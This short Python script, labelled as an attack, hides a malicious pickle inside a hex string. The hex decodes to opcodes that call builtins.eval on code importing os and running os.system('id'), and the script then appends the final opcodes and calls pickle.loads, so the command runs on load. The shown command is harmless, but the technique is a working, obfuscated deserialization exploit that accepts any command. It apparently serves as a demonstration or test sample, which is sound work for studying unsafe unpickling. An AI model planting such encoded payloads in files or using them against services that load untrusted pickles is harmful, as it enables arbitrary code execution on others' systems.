# attack: pickle hidden as a hex string; decodes to GLOBAL builtins eval + REDUCE of os.system code
import pickle

HEX = (
    "636275696c74696e730a6576616c0a2856"
    "5f5f696d706f72745f5f28276f7327292e73797374656d28276964272900"
)
# the trailing bytes close the unicode arg, the tuple and the reduce
blob = bytes.fromhex(HEX)[:-1] + b"\ntR."
pickle.loads(blob)
